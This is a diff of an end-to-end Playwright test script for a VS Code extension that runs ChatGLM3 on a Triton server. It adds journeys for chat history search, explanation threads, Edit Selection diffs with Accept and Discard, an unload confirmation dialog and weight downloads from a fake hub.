@@ -4,11 +4,12 @@
 // repository and the tiny engine. Journeys 1-7 share one window (as a user's session would); the failure and
 // Chinese journeys get fresh ones; the extension-host mocha suite runs last through @vscode/test-electron's runTests
 // with code-server standing in for the VS Code executable. Results: console + JUnit XML (--junit=<file>).
-// Options: --only=main|failures|zh|extension-host runs one group; see README.md for the environment knobs.
+// Options: --only=main|failures|zh|setup|untrusted|edit|theme|context|download|extension-host runs one group; see README.md for the environment knobs.
+import { execFileSync } from 'node:child_process';
 import { copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { basename, dirname, join } from 'node:path';
 import {
-  cleanup, codeServerBin, extensionId, fakeContainers, fakeDocker, freePort, getRunRoot, installExtension, log,
+  cleanup, codeServerBin, escapeRegExp, extensionId, fakeContainers, fakeDocker, freePort, getRunRoot, installExtension, log,
   FatalWait, packageExtension, processesMentioning, projectRoot, removeFakeContainers, resultsDir, screenshotsDir, startCodeServer,
   waitFor, Workbench, writeFakeCheckpoint, writeRemoteSettings, onCleanup,
 } from './lib.mjs';
@@ -189,10 +190,10 @@ async function watchAnswer(frame, n, { timeout = 120_000, until = 'complete' } =
   return { partials: [...partials], ...final };
 }
 
-/** What each attachment chip of a locator reads (its glyphs, such as the ×, left out). */
+/** What each attachment chip of a locator reads (its glyphs, such as the ×, and its token figure left out). */
 const chipTexts = (chips) => chips.evaluateAll((els) => els.map((e) => {
   const copy = e.cloneNode(true);
-  for (const g of copy.querySelectorAll('.chip-glyph')) g.remove();
+  for (const g of copy.querySelectorAll('.chip-glyph, .chip-tokens')) g.remove();
   return (copy.textContent ?? '').trim();
 }));
 
@@ -366,6 +367,17 @@ async function chatHistory(wb) {
     await open();
     await renamed();
   });
+  // The search covers what was said too: the old title's words are still the chat's first question. (The list can
+  // close by itself after the rename box on a loaded machine: opened again where it did.)
+  const found = await waitFor(async () => {
+    if (!(await widget.isVisible())) await open();
+    if ((await input.inputValue({ timeout: 2_000 })) !== 'Count slowly') await input.fill('Count slowly', { timeout: 2_000 });
+    // The first .label-name of a row is its title (the detail line is a label of its own).
+    const shown = await rows.evaluateAll((rs) => rs.map((r) => ({ title: r.querySelector('.label-name')?.textContent?.trim(), text: r.textContent ?? '' })));
+    return shown.length === 1 && shown[0].title === 'Counting test' && shown[0];
+  }, { timeout: 30_000, what: 'the renamed chat found by its text' });
+  if (!found.text.includes('Count slowly from one to fifty.')) throw new Error(`no words around the match: ${found.text}`);
+  if (await widget.isVisible()) await input.fill('', { timeout: 5_000 }).catch(() => {});
 
   // delete, then Undo from the notification
   await wb.clearNotifications().catch(() => {});
@@ -388,7 +400,7 @@ async function chatHistory(wb) {
   const exported = join(workspace, 'Counting test.md');
   await waitFor(() => existsSync(exported), { timeout: 15_000, what: `${exported} to be written` });
   const md = readFileSync(exported, 'utf8');
-  if (!/^# Counting test\n\n## You\n\nCount slowly from one to fifty\.\n\n## ChatGLM3\n\n/.test(md)) throw new Error(`the export reads: ${md.slice(0, 200)}`);
+  if (!/^# Counting test\n\n> Exported from the ChatGLM3 chat\. [^\n]+\n\n## You\n\nCount slowly from one to fifty\.\n\n## ChatGLM3\n\n/.test(md)) throw new Error(`the export reads: ${md.slice(0, 200)}`);
 
   // open one: the view shows it and names it in its title
   await open();
@@ -517,18 +529,40 @@ async function mainWindowJourneys(extensionsDir) {
     chat = await openChat(wb);
   }, { wb: current, needs: ['4b Continue after the length limit: the same answer grows'] });
 
-  await journey('5 explain three selections: comment threads, batched by Triton', async () => {
+  await journey('5 explain three selections: brief threads, batched by Triton, Dismiss All', async () => {
     const statsBefore = batchStats((await tritonGet(cfg, `/v2/models/${MODEL}/stats`)).body);
     // The explanations are scripted answers (scripted-answers.mjs) for the picture: room for them to end by themselves.
     await changeRemoteSettings(server, { 'tritonChatglm.maxNewTokens': 512 }, /settings changed: .*maxNewTokens/);
     try {
+      await hidePanel(wb); // the Comments panel must not open by itself: start from none shown
+      await wb.clearNotifications();
       await openFile(wb, SAMPLE);
       await selectLines(wb, [4, 7, 10]);
       await wb.runCommand(title('explainSelection'));
-      const bodies = await finishedExplanations(wb, 3);
-      log(`      explanations: ${bodies.map((b) => b.body.length).join(', ')} chars`);
-      await hidePanel(wb); // the Comments panel the threads opened would crowd the image
+      // Three threads, each one line: its title with the answer's first sentence (the scripted answers' own).
+      const titles = await finishedExplanations(wb, 3);
+      const expected = ['geometry.py:4: Returns the area of a circle, π · r².', 'geometry.py:7: The hypotenuse of a right triangle (Pythagoras).', 'geometry.py:10: The arithmetic mean of values.']
+        .map((t) => `Explanation of ${t}`);
+      if (JSON.stringify([...titles].sort()) !== JSON.stringify([...expected].sort())) throw new Error(`thread titles: ${JSON.stringify(titles)}`);
+      const bodies = await wb.page.locator('.monaco-editor .review-widget .comment-body').count();
+      if (bodies !== 0) throw new Error(`${bodies} comment bodies shown: brief threads show their title line only`);
+      if (await wb.page.locator('.part.panel').isVisible()) throw new Error('a panel opened by itself (the Comments panel)');
+      const toasts = (await wb.notifications()).filter((t) => /Explain/i.test(t));
+      if (toasts.length) throw new Error(`a notification for the run: ${JSON.stringify(toasts)}`);
+      // A click on the first thread's Show Full Explanation: its whole answer; the picture shows both kinds.
+      const widgets = wb.page.locator('.monaco-editor .review-widget');
+      const area = widgets.filter({ has: wb.page.locator('.head .review-title', { hasText: 'geometry.py:4:' }) });
+      await area.locator('.review-actions .action-label[aria-label^="Show Full Explanation"]').click();
+      await widgets.locator('.comment-body', { hasText: 'only the radius is squared' }).waitFor({ timeout: 15_000 });
+      // VS Code opens its Comments panel the first time in a window that a thread gets a comment to show
+      // (comments.openView "firstFile"): the first Show Full Explanation does. Hidden for the picture.
+      const opened = await wb.page.locator('.part.panel').isVisible();
+      log(`      Show Full Explanation ${opened ? 'opened' : 'did not open'} the Comments panel`);
+      await hidePanel(wb);
       await docScreenshot(wb, 'explain-selection.png');
+      // Dismiss All Explanations (the palette): every thread goes.
+      await wb.runCommand(title('dismissAllExplanations'));
+      await waitFor(async () => (await widgets.count()) === 0, { timeout: 15_000, what: 'no explanation thread left' });
     } finally {
       await changeRemoteSettings(server, { 'tritonChatglm.maxNewTokens': 96 }, /settings changed: .*maxNewTokens/);
     }
@@ -541,7 +575,7 @@ async function mainWindowJourneys(extensionsDir) {
   await journey('5a chat history: search, rename, delete with Undo, export; explanations named and apart', async () => {
     await chatHistory(wb);
     chat = await openChat(wb);
-  }, { wb: current, needs: ['5 explain three selections: comment threads, batched by Triton', '4b Continue after the length limit: the same answer grows'] });
+  }, { wb: current, needs: ['5 explain three selections: brief threads, batched by Triton, Dismiss All', '4b Continue after the length limit: the same answer grows'] });
   const contextQuestion = pictureQuestions.attached;
   await journey('5b attach selections and a file, ask: the prompt carries them in the documented layout', async () => {
     // This question takes the README's chat picture: a chat of its own (5a left an explanation open), a side bar wide
@@ -563,17 +597,20 @@ async function mainWindowJourneys(extensionsDir) {
     // The keybinding (Ctrl+Alt+J here) attaches the selection and opens the chat.
     await wb.page.keyboard.press('Control+Alt+KeyJ');
     chat = await wb.frameWith('.composer .attachment-chip[data-kind="selection"]', { what: 'the selection chip in the chat panel' });
-    // The editor's context menu offers the same command (a right-click inside the selection keeps it).
+    // The editor's context menu offers the same command in its ChatGLM submenu (a right-click inside the selection
+    // keeps it).
     await selectLineRange(wb, 6, 7);
     const inSelection = await lineAt(wb, 6);
+    const submenu = wb.page.locator('.monaco-menu .action-item .action-label', { hasText: /^ChatGLM$/ }).first();
     const menuItem = wb.page.locator('.monaco-menu .action-item .action-label', { hasText: /^Add Selection to Chat$/ }).first();
     await waitFor(async () => {
-      if (!(await menuItem.isVisible())) await wb.page.mouse.click(inSelection.x, inSelection.y, { button: 'right' });
+      if (!(await submenu.isVisible()) && !(await menuItem.isVisible())) await wb.page.mouse.click(inSelection.x, inSelection.y, { button: 'right' });
+      if (!(await menuItem.isVisible())) await submenu.hover({ timeout: 5_000 });
       await menuItem.click({ timeout: 5_000 });
       // The click counts once the menu is gone (one landing while the menu still opens is lost).
       await menuItem.waitFor({ state: 'hidden', timeout: 2_000 });
       return true;
-    }, { timeout: 30_000, what: '"Add Selection to Chat" in the editor context menu' });
+    }, { timeout: 30_000, what: '"ChatGLM > Add Selection to Chat" in the editor context menu' });
     chat = await wb.frameWith('.composer .attachment-chip[data-kind="selection"] + .attachment-chip[data-kind="selection"]', { what: 'the second selection chip' });
     // Add File…: a quick pick of the workspace's files, without what search.exclude hides.
     await chat.locator('.composer .attachment-add').click();
@@ -589,7 +626,8 @@ async function mainWindowJourneys(extensionsDir) {
     chat = await wb.frameWith('.composer .attachment-chip[data-kind="file"]', { what: 'the file chip' });
     const composerChips = () => chipTexts(chat.locator('.composer .attachment-chip'));
     const before = await composerChips();
-    if (JSON.stringify(before) !== JSON.stringify(['geometry.pycurrent file', 'geometry.py:3-4', 'geometry.py:6-7', 'notes.md'])) throw new Error(`chips above the input: ${JSON.stringify(before)}`);
+    // The selections of geometry.py replace its current-file chip: the file does not go as well (issue #20).
+    if (JSON.stringify(before) !== JSON.stringify(['geometry.py:3-4', 'geometry.py:6-7', 'notes.md'])) throw new Error(`chips above the input: ${JSON.stringify(before)}`);
     await wb.screenshot(join(resultsDir, 'screenshots', 'chat-attachments-composer.png'));
 
     const n = await assistantArticles(chat).count();
@@ -597,12 +635,10 @@ async function mainWindowJourneys(extensionsDir) {
     await watchAnswer(chat, n);
     const line = await waitFor(() => promptLogLines(cfg).find((l) => lastUserMessage(l)?.content?.endsWith(contextQuestion)),
       { timeout: 10_000, what: 'the question in the engine prompt log' });
-    // The documented layout (README "Editor context in chat"): the active file, the two selections, the picked file
-    // (its own ``` fence makes ours four backticks long), each as a header and a fenced block; then the question.
-    const sample = readFileSync(join(workspace, SAMPLE), 'utf8');
+    // The documented layout (README "Editor context in chat"): the two selections (not their whole file), the picked
+    // file (its own ``` fence makes ours four backticks long), each as a header and a fenced block; then the question.
     const notes = readFileSync(join(workspace, NOTES), 'utf8');
     const expected = [
-      `File: ${SAMPLE}\n\`\`\`python\n${sample}\`\`\``,
       `File: ${SAMPLE} (lines 3-4)\n\`\`\`python\ndef circle_area(radius):\n    return math.pi * radius ** 2\n\`\`\``,
       `File: ${SAMPLE} (lines 6-7)\n\`\`\`python\ndef hypotenuse(a, b):\n    return math.sqrt(a * a + b * b)\n\`\`\``,
       `File: ${NOTES}\n\`\`\`\`markdown\n${notes}\`\`\`\``,
@@ -613,18 +649,16 @@ async function mainWindowJourneys(extensionsDir) {
       const at = [...expected].findIndex((ch, i) => got[i] !== ch);
       throw new Error(`the prompt differs from the documented layout at ${at}: ${JSON.stringify(got.slice(Math.max(0, at - 40), at + 80))}`);
     }
-    // The question shows its chips in the transcript; above the input only the current file stays.
+    // The question shows its chips in the transcript; above the input the current file is suggested again.
     const sent = await chipTexts(chat.locator('main.messages article.message.user').last().locator('.attachment-chip'));
-    if (JSON.stringify(sent) !== JSON.stringify(['geometry.py', 'geometry.py:3-4', 'geometry.py:6-7', 'notes.md'])) throw new Error(`chips with the question: ${JSON.stringify(sent)}`);
-    await waitFor(async () => JSON.stringify(await composerChips()) === JSON.stringify(['geometry.pycurrent file']), { what: 'the sent chips to leave the input' });
+    if (JSON.stringify(sent) !== JSON.stringify(['geometry.py:3-4', 'geometry.py:6-7', 'notes.md'])) throw new Error(`chips with the question: ${JSON.stringify(sent)}`);
+    await waitFor(async () => JSON.stringify(await composerChips()) === JSON.stringify(['geometry.pycurrent file — click to attach']), { what: 'the sent chips to leave the input' });
     // The README's chat picture: the question with its chips, the scripted answer (finished: watchAnswer above).
     await hidePanel(wb);
     await wb.clearNotifications();
     await chat.locator('textarea.input').focus(); // no hover toolbar over the answer
     await docScreenshot(wb, 'chat-panel.png');
-    // Switched off, the current file stays off for the next questions.
-    await chat.locator('.composer button.attachment-chip.active-file').click();
-    await waitFor(async () => (await chat.locator('.composer button.attachment-chip.active-file').getAttribute('aria-pressed')) === 'false', { what: 'the current file switched off' });
+    // Only suggested (tritonChatglm.chat.currentFile: suggest), the current file does not go with the next questions.
   }
 
   await journey('5c over the input budget: told before sending, Cancel keeps the question, Remove sends without it', async () => {
@@ -660,7 +694,7 @@ async function mainWindowJourneys(extensionsDir) {
     if (left) throw new Error('the dropped attachment is still above the input');
   }, { wb: current, needs: ['5b attach selections and a file, ask: the prompt carries them in the documented layout'] });
 
-  await journey('5d Apply to Selection: a diff preview, then Apply replaces the selected lines', async () => {
+  await journey('5d Apply to Selection: a diff preview, then Accept (its title action) replaces the selected lines', async () => {
     const question = 'Rewrite circle_area with tau.';
     // Short enough for the answer limit (96 tokens: one a character here).
     const code = 'def circle_area(r):\n    return math.tau * r * r / 2';
@@ -679,10 +713,12 @@ async function mainWindowJourneys(extensionsDir) {
     await diffTab.waitFor({ timeout: 30_000 });
     // The proposal on the right of the diff, the question beside it.
     await wb.page.locator('.monaco-diff-editor .editor.modified .view-lines', { hasText: 'math.tau' }).first().waitFor({ timeout: 30_000 });
-    const toast = wb.page.locator('.notifications-toasts .notification-list-item', { hasText: `Replace the selection in ${SAMPLE}` });
-    await toast.waitFor({ timeout: 30_000 });
+    // Accept and Discard are the diff editor's title actions (no notification).
+    const acceptAction = wb.page.locator('.editor-actions .action-label[aria-label^="Accept Proposed Change"]');
+    await acceptAction.waitFor({ timeout: 30_000 });
+    if ((await wb.notifications()).some((t) => /Replace the selection|Apply/.test(t))) throw new Error('Apply asked in a notification');
     await shot(wb, 'chat-apply-diff.png');
-    await toast.locator('.monaco-button', { hasText: /^Apply$/ }).click({ timeout: 30_000 });
+    await acceptAction.click({ timeout: 30_000 });
     await diffTab.waitFor({ state: 'detached', timeout: 30_000 });
     // The edit is in the editor (unsaved); saved, the file reads as the preview showed.
     await wb.runCommand('File: Save');
@@ -724,6 +760,8 @@ async function mainWindowJourneys(extensionsDir) {
     const { text } = await watchAnswer(chat, n, { until: 'stopped', timeout: 30_000 });
     if (!text.trim()) throw new Error('the partial answer was not kept');
     await article.locator('.message-marker.stopped').waitFor({ timeout: 10_000 });
+    // A stopped answer can go on where it stopped.
+    await article.locator('.message-continue button[data-action="continueAnswer"]').waitFor({ state: 'visible', timeout: 10_000 });
     const after = await waitFor(async () => { const c = await cancelledCount(cfg); return c > cancelledBefore && c; },
       { timeout: 30_000, what: 'chatglm3_cancelled_requests_total to grow' });
     log(`      cancelled requests counter: ${cancelledBefore} -> ${after}; partial answer ${text.length} chars`);
@@ -750,6 +788,8 @@ async function mainWindowJourneys(extensionsDir) {
     const rows = await waitFor(async () => { const t = await text('#figure-activeRows'); return Number(t) >= 1 && t; },
       { timeout: 30_000, what: 'the Server Status view to show the running row' });
     await waitFor(async () => /^1\D/.test(await text('#figure-thisWindow')), { timeout: 10_000, what: 'the answer of this window in the view' });
+    // The weights as the model reports them (chatglm3_weights_info): the tiny test engine runs float64, unquantized.
+    await waitFor(async () => (await text('#figure-weights')) === 'float64 (not quantized)', { timeout: 10_000, what: 'the model weights row' });
     // The tokens/s sparkline moves while the answer streams: its path changes from one refresh to the next.
     const path = () => status.locator('#path-generatedTokensPerSecond').getAttribute('d');
     const first = await waitFor(async () => (await path()) || false, { timeout: 20_000, what: 'a tokens/s point' });
@@ -789,16 +829,31 @@ async function mainWindowJourneys(extensionsDir) {
     await changeRemoteSettings(server, { 'tritonChatglm.maxNewTokens': 96 }, /settings changed: .*maxNewTokens/);
   }, { wb: current, needs: ['2 load model: progress, then ready'] });
 
-  await journey('7 unload model, stop server: no container left', async () => {
+  await journey('7 unload model (it asks first), stop server: no container left', async () => {
     let t = Date.now();
+    // The model is loaded: Unload asks, naming how long journey 2's load took. Cancel keeps it.
+    const dialog = wb.page.locator('.monaco-dialog-box');
     await wb.runCommand(title('unloadModel'));
+    await dialog.waitFor({ timeout: 30_000 });
+    const asked = ((await dialog.textContent()) ?? '').replace(/\s+/g, ' ');
+    if (!/Unload ChatGLM3\?/.test(asked) || !/Loading it again took \d+( min \d+)? s last time\./.test(asked)) throw new Error(`the confirmation says: ${asked}`);
+    log(`      asked: ${asked.slice(0, 160)}`);
+    await dialog.locator('.monaco-button', { hasText: /^Cancel$/ }).click();
+    await dialog.waitFor({ state: 'detached', timeout: 10_000 });
+    await new Promise((r) => setTimeout(r, 1_000));
+    if (!/ChatGLM: ready/.test(await wb.statusBarText())) throw new Error(`after Cancel the bar says ${await wb.statusBarText()}`);
+    if ((await tritonGet(cfg, `/v2/models/${MODEL}/ready`)).status !== 200) throw new Error('Cancel unloaded the model');
+    await wb.runCommand(title('unloadModel'));
+    await dialog.locator('.monaco-button', { hasText: /^Unload Model$/ }).click({ timeout: 30_000 });
     await wb.waitForStatus(/ChatGLM: not loaded/, { timeout: 120_000 });
     log(`      unloaded in ${Date.now() - t} ms`);
     const ready = await tritonGet(cfg, `/v2/models/${MODEL}/ready`);
     if (ready.status === 200) throw new Error('Triton still reports the model ready after Unload');
+    // Nothing loaded any more: Stop does not ask.
     t = Date.now();
     await wb.runCommand(title('stopServer'));
     await wb.waitForStatus(/ChatGLM: stopped/, { timeout: 120_000 });
+    if (await dialog.count()) throw new Error('Stop asked although no model was loaded');
     await waitFor(() => fakeContainers(cfg.stateDir).length === 0, { timeout: 30_000, what: 'no container left' });
     await waitFor(() => tritonProcesses(cfg).length === 0, { timeout: 30_000, what: 'the tritonserver process to exit' });
     log(`      stopped and removed in ${Date.now() - t} ms`);
@@ -880,20 +935,14 @@ async function hidePanel(wb) {
 }
 
 /**
- * Waits until the editor shows `count` explanation threads, all finished (while one streams its comment is labelled
- * "waiting…" or "answering…"; finished ones have no label); returns their texts.
+ * Waits until the editor shows `count` explanation threads and every answer of the window has ended (the status
+ * bar no longer says "generating"); returns the threads' titles (a brief thread is its title line).
  */
 async function finishedExplanations(wb, count) {
   const threads = wb.page.locator('.monaco-editor .review-widget');
-  return waitFor(async () => {
-    if ((await threads.count()) !== count) return false;
-    const texts = await threads.evaluateAll((els) => els.map((e) => ({
-      body: e.querySelector('.comment-body')?.textContent ?? '',
-      all: e.textContent ?? '',
-    })));
-    const done = texts.every((t) => t.body.trim() && !/Waiting for the server|waiting…|answering…/.test(t.all));
-    return done && texts;
-  }, { timeout: 180_000, interval: 250, what: `${count} finished explanations next to the code` });
+  await waitFor(async () => (await threads.count()) === count, { timeout: 60_000, interval: 250, what: `${count} explanation threads next to the code` });
+  await wb.waitForStatus(/ChatGLM: ready/, { timeout: 180_000 });
+  return threads.locator('.head .review-title').evaluateAll((els) => els.map((e) => (e.textContent ?? '').replace(/\s+/g, ' ').trim()));
 }
 
 /**
@@ -1005,6 +1054,116 @@ async function failureJourneys(extensionsDir) {
   await server.stop();
 }
 
+/**
+ * Edit Selection (a window of its own, on a file of its own): the scripted rewrites (prose around a fenced block)
+ * stream into the diff editor; Accept by its key changes exactly the selected lines, Discard by its title action
+ * changes nothing, and an edit of the file while the rewrite is written makes Accept refuse with a message.
+ */
+async function editJourneys(extensionsDir) {
+  const cfg = await windowConfig('edit');
+  const FILE = 'shapes.py';
+  const file = join(workspace, FILE);
+  writeFileSync(file, readFileSync(join(workspace, SAMPLE), 'utf8'));
+  // Each answer fits the window's 96-token limit (one token a byte here).
+  const rewrites = {
+    tau: { instruction: 'Use math.tau in circle_area', code: 'def circle_area(radius):\n    return math.tau * radius ** 2 / 2', answer: (c) => `Here you go:\n\`\`\`python\n${c}\n\`\`\`` },
+    hypot: { instruction: 'Use math.hypot in hypotenuse', code: 'def hypotenuse(a, b):\n    return math.hypot(a, b)', answer: (c) => `\`\`\`python\n${c}\n\`\`\`\nShorter and safer.` },
+    empty: { instruction: 'Guard mean against an empty list', code: 'def mean(values):\n    return sum(values) / len(values) if values else 0.0', answer: (c) => `\`\`\`python\n${c}\n\`\`\`` },
+  };
+  writeFileSync(scriptsFile, JSON.stringify([...scriptedAnswers, ...Object.values(rewrites).map((r) => ({ match: r.instruction, answer: r.answer(r.code) }))]));
+  const server = await startCodeServer({ name: 'edit', extensionsDir, folder: workspace, remoteSettings: cfg.settings, env: windowEnv(cfg) });
+  let wb;
+  const current = () => wb;
+  const diffTab = () => wb.page.locator('.tabs-container .tab', { hasText: `${FILE} ↔ ChatGLM Edit` });
+  const fileTab = () => wb.page.locator('.tabs-container .tab', { hasText: FILE, hasNotText: '↔' }).first();
+  const modified = () => wb.page.locator('.monaco-diff-editor .editor.modified .view-lines').first();
+  /** Edit Selection… from the palette, the instruction typed into its input box; resolves when the diff is shown. */
+  const editLines = async (first, last, rewrite) => {
+    await fileTab().click();
+    await selectLineRange(wb, first, last);
+    await wb.runCommand(title('editSelection'));
+    const input = wb.page.locator('.quick-input-widget .quick-input-box input');
+    await input.waitFor({ state: 'visible', timeout: 15_000 });
+    const heading = (await wb.page.locator('.quick-input-widget .quick-input-title').textContent().catch(() => '')) ?? '';
+    if (!/Edit Selection/.test(heading)) throw new Error(`the input box is titled "${heading}"`);
+    await input.fill(rewrite.instruction);
+    await wb.page.keyboard.press('Enter');
+    await diffTab().waitFor({ timeout: 30_000 });
+  };
+  /** The rewrite's last line is in the diff's right side (the fenced block has closed: the answer is complete). */
+  const rewritten = (rewrite) => waitFor(async () => ((await modified().textContent()) ?? '').replace(/\u00a0/g, ' ').includes(rewrite.code.split('\n').at(-1).trim()),
+    { timeout: 60_000, what: 'the rewrite in the diff' });
+
+  await journey('11 Edit Selection: the rewrite streams into a diff, Accept (Ctrl+Enter) changes exactly the selected lines', async () => {
+    wb = await Workbench.open(server, 'edit');
+    await wb.waitForStatus(/ChatGLM: stopped/);
+    await wb.runCommand(title('startChatglm'));
+    await wb.waitForStatus(/ChatGLM: ready/, { timeout: 300_000 });
+    await wb.clearNotifications();
+    await openFile(wb, FILE);
+    const before = readFileSync(file, 'utf8');
+    await editLines(3, 4, rewrites.tau);
+    await rewritten(rewrites.tau);
+    const right = ((await modified().textContent()) ?? '').replace(/\u00a0/g, ' ');
+    if (/Here you go/.test(right)) throw new Error('the prose around the block is in the proposal');
+    await shot(wb, 'edit-selection-diff.png');
+    if ((await wb.notifications()).length) throw new Error(`notifications during the review: ${JSON.stringify(await wb.notifications())}`);
+    // Accept by its key, in the diff (the rewrite may still be ending: Accept then says so, and is pressed again).
+    await modified().click();
+    await waitFor(async () => {
+      await wb.page.keyboard.press('Control+Enter');
+      await new Promise((r) => setTimeout(r, 1_000));
+      return !(await diffTab().count());
+    }, { timeout: 30_000, interval: 500, what: 'Accept to close the diff' });
+    await wb.runCommand('File: Save');
+    const expected = before.replace('def circle_area(radius):\n    return math.pi * radius ** 2\n', `${rewrites.tau.code}\n`);
+    await waitFor(() => readFileSync(file, 'utf8') === expected, { timeout: 15_000, what: `${FILE} with lines 3-4 rewritten, nothing else` })
+      .catch((e) => { throw new Error(`${e.message}: ${JSON.stringify(readFileSync(file, 'utf8'))}`); });
+  }, { wb: current });
+
+  await journey('11a Edit Selection: Discard (the title action) changes nothing', async () => {
+    const before = readFileSync(file, 'utf8');
+    await editLines(6, 7, rewrites.hypot);
+    await rewritten(rewrites.hypot);
+    await wb.page.locator('.editor-actions .action-label[aria-label^="Discard Proposed Change"]').click({ timeout: 15_000 });
+    await diffTab().waitFor({ state: 'detached', timeout: 15_000 });
+    if (await fileTab().evaluate((e) => e.classList.contains('dirty'))) throw new Error('the file is dirty after Discard');
+    if (readFileSync(file, 'utf8') !== before) throw new Error('Discard changed the file');
+  }, { wb: current, needs: ['11 Edit Selection: the rewrite streams into a diff, Accept (Ctrl+Enter) changes exactly the selected lines'] });
+
+  await journey('11b Edit Selection: the file edited while the rewrite is written → Accept refused, with a message', async () => {
+    const before = readFileSync(file, 'utf8');
+    await wb.clearNotifications();
+    await editLines(9, 10, rewrites.empty);
+    const streaming = !((await modified().textContent()) ?? '').includes('else 0.0');
+    // The user types into the file itself (its own tab) while the diff is open.
+    await fileTab().click();
+    const p = await lineAt(wb, 1);
+    await wb.page.mouse.click(p.x, p.y);
+    await wb.page.keyboard.press('Home');
+    await wb.page.keyboard.type('# edited\n');
+    const refusal = /shapes\.py changed after the rewrite was requested, so it cannot be applied\. Run Edit Selection again\./;
+    await wb.waitForNotification(refusal, { timeout: 15_000 });
+    log(`      typed while the rewrite was ${streaming ? 'still streaming' : 'already complete'}`);
+    await diffTab().click();
+    await rewritten(rewrites.empty);
+    await wb.clearNotifications();
+    await modified().click();
+    await wb.page.keyboard.press('Control+Enter');
+    await wb.waitForNotification(refusal, { timeout: 15_000 });
+    if (!(await diffTab().count())) throw new Error('the refused proposal closed');
+    await wb.page.locator('.editor-actions .action-label[aria-label^="Discard Proposed Change"]').click({ timeout: 15_000 });
+    await diffTab().waitFor({ state: 'detached', timeout: 15_000 });
+    const shown = (await wb.page.locator('.editor-instance .monaco-editor .view-lines').first().textContent()) ?? '';
+    if (/else 0\.0/.test(shown) || !/# edited/.test(shown.replace(/\u00a0/g, ' '))) throw new Error(`the editor shows: ${shown.slice(0, 200)}`);
+    // Only the user's own typing reached the file (the web workbench saves it by itself: files.autoSave afterDelay).
+    await waitFor(() => readFileSync(file, 'utf8') === `# edited\n${before}`, { timeout: 15_000, what: `${FILE} with the typed line only` })
+      .catch((e) => { throw new Error(`${e.message}: ${JSON.stringify(readFileSync(file, 'utf8'))}`); });
+  }, { wb: current, needs: ['11 Edit Selection: the rewrite streams into a diff, Accept (Ctrl+Enter) changes exactly the selected lines'] });
+
+  await server.stop();
+}
+
 async function chineseJourney(vsix) {
   const nlsZh = JSON.parse(readFileSync(join(projectRoot, 'package.nls.zh-cn.json'), 'utf8'));
   const bundleFile = join(projectRoot, 'l10n/bundle.l10n.zh-cn.json');
@@ -1037,12 +1196,14 @@ async function chineseJourney(vsix) {
     }, { timeout: 20_000, what: 'the Send button in Chinese' });
     if (sendText !== zh('Send')) throw new Error(`Send button reads "${sendText}", expected "${zh('Send')}"`);
     const tooltip = await chat.locator('button[data-action="send"]').getAttribute('title');
-    if (tooltip !== zh('Send (Enter)')) throw new Error(`Send button's tooltip reads "${tooltip}", expected "${zh('Send (Enter)')}"`);
+    // The model is not ready yet: the tooltip says Enter sends once it is.
+    if (tooltip !== zh('Send (Enter) once ChatGLM3 is ready')) throw new Error(`Send button's tooltip reads "${tooltip}", expected "${zh('Send (Enter) once ChatGLM3 is ready')}"`);
     const placeholder = await chat.locator('textarea.input').getAttribute('placeholder');
     if (placeholder !== zh('Ask ChatGLM3')) throw new Error(`the input's placeholder reads "${placeholder}"`);
     // Until the model is ready the setup checklist stands where the server notice was.
     const checklist = chat.locator('section.setup');
-    await waitFor(async () => (await checklist.locator('.setup-title').textContent()) === zh('Set up ChatGLM3'), { timeout: 30_000, what: 'the checklist in Chinese' })
+    // Nothing is missing in this window: the box says ChatGLM3 is stopped (not "Set up ChatGLM3").
+    await waitFor(async () => (await checklist.locator('.setup-title').textContent()) === zh('ChatGLM3 is stopped'), { timeout: 30_000, what: 'the checklist in Chinese' })
       .catch(async (e) => { throw new Error(`${e.message}: "${await checklist.textContent()}"`); });
     const startText = (await checklist.locator('.setup-actions button.primary').textContent())?.trim();
     if (startText !== zh('Start ChatGLM')) throw new Error(`Start ChatGLM reads "${startText}"`);
@@ -1206,8 +1367,13 @@ async function setupJourney(extensionsDir) {
     log(`      checklist: ${Object.entries(ready).map(([k, v]) => `${k}=${v.level}`).join(', ')}`);
     await shot('setup-ready.png');
 
-    // The one action.
-    await clickSetup(chat, 'startChatglm');
+    // The build's message offers the next step as its button (not a Cancel beside a small link): Start ChatGLM
+    // from there, the one action the checklist offers too.
+    await wb.waitForNotification(/The serving image .* is ready\./, { timeout: 30_000 });
+    const built = wb.page.locator('.notifications-toasts .notification-list-item', { hasText: /The serving image .* is ready\./ });
+    const buttons = (await built.locator('.monaco-button').allTextContents()).map((t) => t.trim());
+    if (buttons.join('|') !== 'Start ChatGLM') throw new Error(`the image-ready message's buttons: ${JSON.stringify(buttons)}`);
+    await built.locator('.monaco-button', { hasText: 'Start ChatGLM' }).click();
     await wb.waitForStatus(/ChatGLM: starting|ChatGLM: loading|ChatGLM: not loaded/, { timeout: 60_000 });
     await shot('setup-starting.png');
     await wb.waitForStatus(/ChatGLM: ready/, { timeout: 300_000 });
@@ -1240,9 +1406,335 @@ async function setupJourney(extensionsDir) {
   await server.stop();
 }
 
+/**
+ * Weights in one click: nothing but the weights missing; the checklist's Download ChatGLM3-6B (12.5 GB) fetches
+ * the tiny checkpoint from the fake Hub (tritonChatglm.hubEndpoint) into a fresh Hugging Face cache, with the
+ * confirmation (where, free space, source), the progress notification and the status bar's percentage seen on the
+ * way; the weights setting is written to the remote settings, the row passes (naming the newer snapshot), and Start
+ * ChatGLM answers with the snapshot mounted as the real docker would (its repository folder, read-only).
+ */
+async function downloadJourney(extensionsDir) {
+  const { startFakeHub } = await import('../support/fake-hub.mjs');
+  const hub = await startFakeHub();
+  onCleanup(() => hub.close());
+  // Slow enough that the progress notification and the status bar can be seen (about 5 s for the 0.5 MB).
+  hub.knobs.bytesPerSecond = 100_000;
+  const cache = join(root, 'download/hf-cache');
+  const cfg = await windowConfig('download', { 'tritonChatglm.weightsPath': undefined, 'tritonChatglm.hubEndpoint': hub.endpoint });
+  const server = await startCodeServer({
+    name: 'download', extensionsDir, folder: workspace, remoteSettings: cfg.settings,
+    env: windowEnv(cfg, { HF_HUB_CACHE: cache, HF_HOME: join(root, 'download/hf-home') }),
+  });
+  let wb;
+  const shot = (name) => wb.screenshot(join(resultsDir, 'screenshots', name));
+  const name = '15 weights in one click: Download in the checklist → progress → weights set → Start ChatGLM answers';
+  await journey(name, async () => {
+    wb = await Workbench.open(server, 'download');
+    await wb.waitForStatus(/ChatGLM: setup needed/, { timeout: 60_000 });
+    const chat = await openChat(wb);
+    await waitForRow(chat, 'weights', 'error');
